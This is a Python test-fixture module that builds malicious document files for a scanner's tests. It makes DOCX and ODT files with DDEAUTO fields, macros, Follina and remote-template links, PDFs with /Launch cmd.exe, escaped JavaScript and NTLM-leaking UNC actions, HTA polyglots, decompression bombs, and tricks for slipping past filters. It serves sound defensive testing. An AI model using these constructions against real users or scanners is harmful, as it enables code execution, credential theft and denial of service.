"""Crafted document files, built in memory, for tests/documents/test_file_attacks.py.

Each builder makes one file of an attack that was reported or is well known
(issue 17 and the files that held a worker; macros, remote templates and
Follina; PDF actions; polyglots) out of the realistic files of
``tests/documents/samples.py``. Everything is built when a test asks for it,
not at import: some of these take a second and a few hundred MB to make.
"""

import io
import re
import struct
import zipfile
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from tests.documents import samples

MB = 1024 * 1024
HTA = (
    b'<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"></head><body>'
    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc.exe"'
    b"</script></body></html>"
)
OFFICE_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


# ---------------------------------------------------------------- archives


def _zip(parts, stored=()):
    """A ZIP of ``parts`` in order; ``stored`` names are not deflated.

    A part is a str or bytes, or a list of byte chunks, written one by one (so
    a part of 190 MB never sits whole in memory).
    """
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            kind = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            if isinstance(content, (str, bytes)):
                archive.writestr(name, content, compress_type=kind)
                continue
            info = zipfile.ZipInfo(name, date_time=(2026, 9, 5, 8, 0, 0))
            info.compress_type = kind
            with archive.open(info, "w") as member:
                for chunk in content:
                    member.write(chunk)
    return buffer.getvalue()


class _Repeated:
    """``head``, ``piece`` × ``count`` in chunks of about 1 MB, then ``tail``."""

    def __init__(self, head, piece, count, tail):
        self.head, self.piece, self.count, self.tail = head, piece, count, tail

    def __iter__(self):
        yield self.head
        per_chunk = max(1, MB // len(self.piece))
        left = self.count
        while left > 0:
            yield self.piece * min(per_chunk, left)
            left -= per_chunk
        yield self.tail


def docx(*, document=None, body=None, rels=None, types=None, parts=None):
    """A DOCX as ``samples.docx_bytes`` makes one, any of whose parts may be replaced.

    ``document``: the raw ``word/document.xml`` (else ``body`` inside Word's
    wrapper); ``rels``: the items of ``word/_rels/document.xml.rels``;
    ``parts``: more parts, or replacements.
    """
    if document is None:
        document = samples.document_xml(
            body if body is not None else "<w:p><w:r><w:t>Ke hoach</w:t></w:r></w:p>"
        )
    package = samples.relationships(("rId1", "officeDocument", "word/document.xml", False))
    return _zip(
        {
            "[Content_Types].xml": types or samples.content_types(),
            "_rels/.rels": package,
            "word/document.xml": document,
            "word/_rels/document.xml.rels": samples.relationships(*(rels or ())),
            **(parts or {}),
        }
    )


def odt(*, content=None, **options):
    """``samples.odt_bytes``, or with a raw ``content.xml`` (same order, same compression)."""
    if content is None:
        return samples.odt_bytes(**options)
    good = zipfile.ZipFile(io.BytesIO(samples.odt_bytes()))
    parts = {name: good.read(name) for name in good.namelist()}
    parts["content.xml"] = content
    return _zip(parts, stored={"mimetype"})


def lying_sizes(data, member, declared=1024, crc_of_prefix=False):
    """``data`` (a ZIP) whose directory says ``member`` unpacks to ``declared`` bytes.

    The sizes are written in its local header and in the central directory;
    what the member really unpacks to is unchanged. ``crc_of_prefix``: the
    CRC given is that of the first ``declared`` bytes, so a reader that stops
    where the directory says finds no CRC error, only XML cut short.
    """
    archive = zipfile.ZipFile(io.BytesIO(data))
    info = archive.getinfo(member)
    crc = info.CRC
    if crc_of_prefix:
        with archive.open(member) as stream:
            crc = zlib.crc32(stream.read(declared))
    patched = bytearray(data)
    # Local header: CRC at +14, compressed size at +18, size at +22.
    local = info.header_offset
    assert patched[local : local + 4] == b"PK\x03\x04"
    struct.pack_into("<I", patched, local + 14, crc)
    struct.pack_into("<I", patched, local + 22, declared)
    # Central directory: CRC at +16, size at +24.
    name = member.encode()
    central = patched.find(b"PK\x01\x02")
    while central >= 0:
        size = struct.unpack_from("<H", patched, central + 28)[0]
        if bytes(patched[central + 46 : central + 46 + size]) == name:
            break
        central = patched.find(b"PK\x01\x02", central + 4)
    assert central >= 0, member
    struct.pack_into("<I", patched, central + 16, crc)
    struct.pack_into("<I", patched, central + 24, declared)
    return bytes(patched)


# ---------------------------------------------------------------- files that held a worker


def docx_of_angle_brackets(size=400_000):
    """A DOCX whose ``word/document.xml`` is nothing but ``<`` (a regex went quadratic on it)."""
    return docx(document="<" * size)


def odt_of_angle_brackets(size=400_000):
    return odt(content="<" * size)


def docx_of_short_words(megabytes=190):
    """A DOCX whose body is ``megabytes`` MB of two-letter words (took a worker to 5 GB)."""
    head, _words, tail = samples.document_xml("<w:p><w:r><w:t>|</w:t></w:r></w:p>").partition("|")
    return docx(document=_Repeated(head.encode(), b"la ", megabytes * MB // 3, tail.encode()))


def docx_declaring_small_sizes(megabytes=64, crc_of_prefix=False):
    """A DOCX whose directory says its body is 1 KB, when it unpacks to ``megabytes`` MB."""
    data = docx_of_short_words(megabytes)
    return lying_sizes(data, "word/document.xml", 1024, crc_of_prefix=crc_of_prefix)


def _write(writer):
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _helvetica():
    font = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/Type1"),
            NameObject("/BaseFont"): NameObject("/Helvetica"),
        }
    )
    return DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})})


def pdf_of_path_operators(pages=500, operators=200_000):
    """``pages`` pages sharing one content stream of ``operators`` path operators.

    84 KB on disk; reading a page's text cost pypdf 3.5 s, the whole file 30
    minutes. A line of text comes first, as in a real page.
    """
    writer = PdfWriter()
    content = DecodedStreamObject()
    content.set_data(
        b"BT /F1 12 Tf 72 720 Td (Bao cao tong ket) Tj ET\n" + b"10 10 m 20 20 l S\n" * operators
    )
    shared = writer._add_object(content.flate_encode())
    resources = writer._add_object(_helvetica())
    for _ in range(pages):
        page = writer.add_blank_page(612, 792)
        page[NameObject("/Contents")] = shared
        page[NameObject("/Resources")] = resources
    return _write(writer)


# ---------------------------------------------------------------- PDF actions


def _pdf(build):
    """A one-page PDF; ``build(writer, page)`` adds the attack."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    build(writer, page)
    return _write(writer)


def _action(kind, **entries):
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in entries.items()}}
    )


def _link(page, action, writer):
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)]),
            NameObject("/Border"): ArrayObject([NumberObject(0)] * 3),
            NameObject("/A"): action,
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def _open_with(action):
    return lambda writer, page: writer._root_object.__setitem__(
        NameObject("/OpenAction"), writer._add_object(action)
    )


def pdf_launch_with_indirect_kind():
    """``/Launch`` whose ``/S`` is an indirect object: a filter on ``/S /Launch`` misses it."""

    def build(writer, page):
        action = DictionaryObject(
            {
                NameObject("/S"): writer._add_object(NameObject("/Launch")),
                NameObject("/F"): TextStringObject("cmd.exe"),
                NameObject("/Win"): DictionaryObject(
                    {NameObject("/F"): TextStringObject("cmd.exe /c calc")}
                ),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return _pdf(build)


def pdf_goto_remote_unc():
    """A link that opens a PDF on a Windows share (and leaks the reader's NTLM hash)."""
    action = _action(
        "/GoToR",
        F=TextStringObject("\\\\203.0.113.9\\share\\bieu-mau.pdf"),
        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
    )
    return _pdf(lambda writer, page: _link(page, action, writer))


def pdf_goto_embedded():
    action = _action(
        "/GoToE",
        D=ArrayObject([NumberObject(0), NameObject("/Fit")]),
        T=DictionaryObject(
            {NameObject("/R"): NameObject("/C"), NameObject("/N"): TextStringObject("a.pdf")}
        ),
    )
    return _pdf(lambda writer, page: _link(page, action, writer))


def pdf_thread():
    action = _action(
        "/Thread", F=TextStringObject("\\\\203.0.113.9\\share\\x.pdf"), D=NumberObject(0)
    )
    return _pdf(lambda writer, page: _link(page, action, writer))


def pdf_uri_on_open(uri="http://203.0.113.9/track?doc=15"):
    return _pdf(_open_with(_action("/URI", URI=TextStringObject(uri))))


def pdf_uri_in_page_trigger(uri="http://203.0.113.9/track?page=1"):
    """A ``/URI`` action the page runs when it is opened (``/AA`` ``/O``)."""

    def build(writer, page):
        action = writer._add_object(_action("/URI", URI=TextStringObject(uri)))
        page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})

    return _pdf(build)


def pdf_uri_in_next_of_open_action():
    """A harmless action on open whose ``/Next`` opens a web address."""
    later = _action("/URI", URI=TextStringObject("http://203.0.113.9/x"))
    first = _action("/GoTo", D=ArrayObject([NumberObject(0), NameObject("/Fit")]))

    def build(writer, page):
        first[NameObject("/Next")] = writer._add_object(later)
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(first)

    return _pdf(build)


def pdf_uri_link(uri="https://langson.dcs.vn/van-ban"):
    """An ordinary link the reader clicks: allowed."""
    action = _action("/URI", URI=TextStringObject(uri))
    return _pdf(lambda writer, page: _link(page, action, writer))


def pdf_escaped_javascript():
    """A JavaScript action whose names are written with ``#`` escapes.

    ``/J#61vaScript`` is the name ``/JavaScript`` and ``/J#53`` is ``/JS``
    (PDF 1.2, 7.3.5); a filter on the bytes misses both. pypdf writes names
    escaped its own way, so placeholders of the same length are replaced in
    the written file (the cross-reference offsets stay right).
    """
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JQQQvaScript"),
            NameObject("/JQQQ"): TextStringObject("app.launchURL('http://203.0.113.9/', true);"),
        }
    )
    data = _pdf(_open_with(action))
    assert data.count(b"/JQQQvaScript") == 1 and data.count(b"/JQQQ ") == 1
    return data.replace(b"/JQQQvaScript", b"/J#61vaScript").replace(b"/JQQQ ", b"/J#53 ")


# ---------------------------------------------------------------- pypdf's own errors


def _pdf_with_raw_content(data, filters):
    """A page whose content stream holds ``data`` as it is, declared with ``filters``."""

    def build(writer, page):
        stream = StreamObject()
        stream._data = data
        stream[NameObject("/Filter")] = (
            NameObject(filters[0])
            if len(filters) == 1
            else ArrayObject([NameObject(f) for f in filters])
        )
        page[NameObject("/Contents")] = writer._add_object(stream)
        page[NameObject("/Resources")] = writer._add_object(_helvetica())

    return _pdf(build)


def pdf_jbig2_content():
    """A content stream declared JBIG2 (pypdf needs the jbig2dec program for it)."""
    return _pdf_with_raw_content(b"\x97JB2\r\n\x1a\n\x01" + bytes(64), ["/JBIG2Decode"])


def pdf_unknown_filter():
    return _pdf_with_raw_content(b"BT /F1 12 Tf (x) Tj ET", ["/FooDecode"])


def pdf_flate_bomb(megabytes=200):
    """A content stream of ``megabytes`` MB of zeros, about 200 KB compressed."""
    packer, zeros = zlib.compressobj(9), bytes(MB)
    packed = b"".join(packer.compress(zeros) for _ in range(megabytes)) + packer.flush()
    return _pdf_with_raw_content(packed, ["/FlateDecode"])


# ---------------------------------------------------------------- polyglots


def pdf_with_junk_before(junk=b"GARBAGE\r\n"):
    return junk + samples.pdf_bytes()


def pdf_with_hta_after():
    """A real PDF with an HTML application after its ``%%EOF`` (``copy /b a.pdf+b.hta``)."""
    return samples.pdf_bytes() + b"\r\n" + HTA


def doc_with_html_after():
    return samples.doc_bytes() + b"<html><script>alert(document.cookie)</script></html>"


# ---------------------------------------------------------------- DOCX: code and remote content


def docx_vba_under_image_name(declare="override"):
    """A VBA project (not an OLE file here: its content type alone says what it is)
    stored as ``word/media/image1.png``, typed by an Override or by a Default."""
    if declare == "override":
        types = samples.content_types(overrides=[("/word/media/image1.png", VBA_TYPE)])
    else:
        types = samples.content_types(defaults=[("png", VBA_TYPE)])
    return docx(types=types, parts={"word/media/image1.png": b'Attribute VB_Name = "x"\r\n'})


def docx_vba_relationship():
    """A relationship of the VBA project type, to a part typed as a PNG."""
    return docx(
        types=samples.content_types(defaults=[("png", "image/png")]),
        rels=[("rId9", VBA_REL, "media/image1.png", False)],
        parts={"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(32)},
    )


def docx_ole_under(name):
    """A DOCX holding an OLE2 compound file (a VBA project's carrier) as ``name``."""
    project = samples.ole_file({"VBA/dir": b"\x01" * 64, "VBA/ThisDocument": b"Sub x()"})
    return docx(parts={name: project})


def docx_remote_template(target="http://203.0.113.9/template.dotm"):
    settings = (
        f'<?xml version="1.0"?><w:settings xmlns:w="{samples.W_NS}" '
        f'xmlns:r="{OFFICE_NS}"><w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    return docx(
        parts={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": samples.relationships(
                ("rId1", "attachedTemplate", target, True)
            ),
        }
    )


def docx_follina():
    """An external ``oleObject`` relationship to an MHTML address (CVE-2022-30190)."""
    target = "mhtml:http://203.0.113.9/index.html!x-usc:http://203.0.113.9/index.html"
    return docx(rels=[("rId99", "oleObject", target, True)])


def field(instruction, runs=1, *, pieces=None, paragraph=True, result="1"):
    """A complex field whose code is ``instruction``, split over ``runs`` runs as Word does
    (or into the given ``pieces``); ``paragraph``: in a paragraph of its own."""
    if pieces is None:
        size = -(-len(instruction) // runs)
        pieces = [instruction[i : i + size] for i in range(0, len(instruction), size)]
    codes = "".join(
        f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces
    )
    runs_xml = (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f'{codes}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )
    return f"<w:p>{runs_xml}</w:p>" if paragraph else runs_xml


DDEAUTO = 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'


def docx_with_field(instruction=DDEAUTO, runs=1):
    return docx(body=field(instruction, runs))


def docx_header_field(instruction='INCLUDETEXT "\\\\\\\\203.0.113.9\\\\share\\\\a.docx"'):
    header = f'<?xml version="1.0"?><w:hdr xmlns:w="{samples.W_NS}">{field(instruction)}</w:hdr>'
    return docx(
        types=samples.content_types(overrides=[("/word/header1.xml", HEADER_TYPE)]),
        rels=[("rId7", "header", "header1.xml", False)],
        parts={"word/header1.xml": header},
    )


def docx_hyperlink(target):
    body = (
        f'<w:p><w:hyperlink xmlns:r="{OFFICE_NS}" r:id="rId5">'
        "<w:r><w:t>Xem them</w:t></w:r></w:hyperlink></w:p>"
    )
    return docx(body=body, rels=[("rId5", "hyperlink", target, True)])


# ---------------------------------------------------------------- ODT: macros and links


SCRIPT_LC = (
    '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library">'
    '<library:library library:name="Standard" library:link="false"/></library:libraries>'
)
BASIC_MODULE = (
    '<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" '
    'script:name="Module1" script:language="StarBasic">Sub Main\n Shell("calc.exe")\nEnd Sub'
    "</script:module>"
)
ON_OPEN = (
    "<office:scripts><office:event-listeners>"
    '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
    "</office:event-listeners></office:scripts>"
)
ODT_MANIFEST = [
    ("/", "application/vnd.oasis.opendocument.text"),
    ("content.xml", "text/xml"),
]


def odt_basic_macro():
    return samples.odt_bytes(
        parts={
            "Basic/script-lc.xml": SCRIPT_LC,
            "Basic/Standard/script-lb.xml": SCRIPT_LC,
            "Basic/Standard/Module1.xml": BASIC_MODULE,
        },
        manifest=[
            *ODT_MANIFEST,
            ("Basic/", "application/binary"),
            ("Basic/Standard/Module1.xml", "text/xml"),
        ],
    )


def odt_macro_only_in_manifest():
    """No ``Basic/`` folder in the archive: a macro library named only by its media type."""
    return samples.odt_bytes(
        parts={"Lib/Module1.xml": BASIC_MODULE},
        manifest=[*ODT_MANIFEST, ("Lib/Module1.xml", "application/vnd.sun.xml.basic")],
    )


def odt_on_open_event():
    return samples.odt_bytes(before=ON_OPEN)


def odt_image(href, parts=None):
    body = (
        '<text:p><draw:frame draw:name="Anh 1"><draw:image xlink:href="'
        f'{href}" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
        "</draw:frame></text:p>"
    )
    manifest = [*ODT_MANIFEST, *((name, "image/png") for name in (parts or {}))]
    return samples.odt_bytes(body=body, parts=parts, manifest=manifest)


def png():
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 0, 0)).save(buffer, "PNG")
    return buffer.getvalue()


# ---------------------------------------------------------------- DOC


def doc_with_macros():
    return samples.doc_bytes(**{"Macros/VBA/dir": b"\x01" * 64, "Macros/VBA/ThisDocument": b"x"})


def doc_with_package():
    """An embedded "package" object: a program in an ``\\x01Ole10Native`` stream."""
    native = b"\x00\x10\x00\x00\x02\x00calc.exe\x00" + b"MZ" + bytes(62)
    return samples.doc_bytes(**{"ObjectPool/_1234567/\x01Ole10Native": native})


# ---------------------------------------------------------------- ways around the first checks


def pdf_with_hta_and_forged_end():
    """The HTA after the end, then ``startxref`` (the real one) and ``%%EOF`` again.

    Readers open the PDF as before (the last ``startxref`` names its real
    cross-reference table), and the bytes after the last ``%%EOF`` are blank.
    """
    data = samples.pdf_bytes()
    offset = re.findall(rb"startxref\s+(\d+)", data)[-1]
    return data + b"\n%" + HTA + b"\nstartxref\n" + offset + b"\n%%EOF\n"


def docx_field_split_in_its_name():
    """``DDEAUTO`` split inside its name over two runs (``D`` | ``DEAUTO …``), as
    Word itself splits field codes; Word reads the field code whole."""
    return docx(body=field(DDEAUTO, pieces=["D", DDEAUTO[1:]]))


def docx_field_named_by_a_quote_field():
    """The field's name is the result of a nested ``QUOTE`` field (68 68 69 … is
    "DDEAUTO"): no field code in the file says DDE, and Word still runs it."""
    nested = field(" QUOTE 68 68 69 65 85 84 79 ", paragraph=False, result="DDEAUTO")
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"{nested}"
        '<w:r><w:instrText xml:space="preserve"> c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return docx(body=body)


def docx_hyperlink_field(target):
    """A ``HYPERLINK`` field (the link is in the field code, not in a relationship)."""
    instruction = f' HYPERLINK "{target}" \\o "Xem them" '
    return docx(
        body=f"<w:p><w:fldSimple w:instr='{instruction}'><w:r><w:t>Xem them</w:t></w:r>"
        "</w:fldSimple></w:p>"
    )


def odt_link(href):
    return samples.odt_bytes(
        body=f'<text:p><text:a xlink:type="simple" xlink:href="{href}">Xem them</text:a></text:p>'
    )


def odt_dde_link():
    """A DDE link updated on open (LibreOffice on Windows asks the named program for data)."""
    return samples.odt_bytes(
        body="<text:dde-connection-decls>"
        '<text:dde-connection-decl office:name="c" office:dde-application="cmd" '
        'office:dde-topic="/c calc" office:dde-item="x" office:automatic-update="true"/>'
        '</text:dde-connection-decls><text:p><text:dde-connection text:connection-name="c">'
        "1</text:dde-connection></text:p>"
    )


def docx_with_ordinary_fields():
    """Fields as real documents have them: a table of contents whose result holds
    PAGEREF fields, an IF with a nested MERGEFIELD, a link to a bookmark."""
    toc_entry = field(" PAGEREF _Toc1 \\h ", paragraph=False, result="2")
    toc = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> TOC \\o "1-3" \\h \\z \\u </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        f"<w:r><w:t>I. Muc tieu</w:t></w:r>{toc_entry}"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    merge = field(" MERGEFIELD Gioi_tinh ", paragraph=False, result="Nu")
    condition = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> IF </w:instrText></w:r>'
        f"{merge}"
        '<w:r><w:instrText xml:space="preserve"> = "Nu" "Ba" "Ong" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Ba</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    bookmark = field(' HYPERLINK \\l "_Toc1" ', result="Muc tieu")
    return docx(body=toc + condition + bookmark)
